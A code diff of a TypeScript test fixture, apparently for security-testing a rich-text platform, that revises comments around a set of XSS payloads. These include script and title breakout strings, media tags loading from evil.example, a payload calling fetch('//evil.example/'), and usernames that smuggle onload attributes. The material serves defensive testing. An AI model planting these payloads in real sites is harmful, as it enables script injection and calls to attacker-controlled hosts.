@@ -1,10 +1,10 @@
 import sharp from 'sharp';
 import { hostileHtml } from '../../src/platform/rich-text/hostile-html.ts';
 
-/** Says that it ran where anyone can see it, and calls a host that is not ours. */
+/** Reports visibly that it ran, and calls a foreign host. */
 const deed = "(window.__owned=1,fetch('//evil.example/'))";
 
-/** Beyond what a cleaner meets: texts that break out of what a page is written into. */
+/** Besides cleaning: texts that break out of the context that a page writes them into. */
 const breakouts = [
   '</script><script>alert(1)</script>',
   '</title><script>alert(1)</script>',
@@ -19,7 +19,7 @@ const breakouts = [
   '<video poster=//evil.example/p src=//evil.example/v autoplay></video><audio src=//evil.example/a></audio>',
 ];
 
-/** A word by which the search finds them all. */
+/** A term by which search finds them all. */
 const plantedWord = '수상한글';
 
 export const hostileTexts: readonly string[] = [...hostileHtml, ...breakouts].map((text) =>
@@ -34,7 +34,7 @@ export interface Planted {
   refused: string[];
 }
 
-/** Writes the texts wherever somebody may write, as one person to another; what is refused as improper is left out. */
+/** Writes the texts everywhere a person may write; refused ones are left out. */
 export async function plantTexts(url: string, texts: readonly string[]): Promise<Planted> {
   const [minji, junho] = [await Writer.signUp(url, 'x" onload=a b='), await Writer.signUp(url, '<svg onload=b()>')];
   const paths: string[] = [];
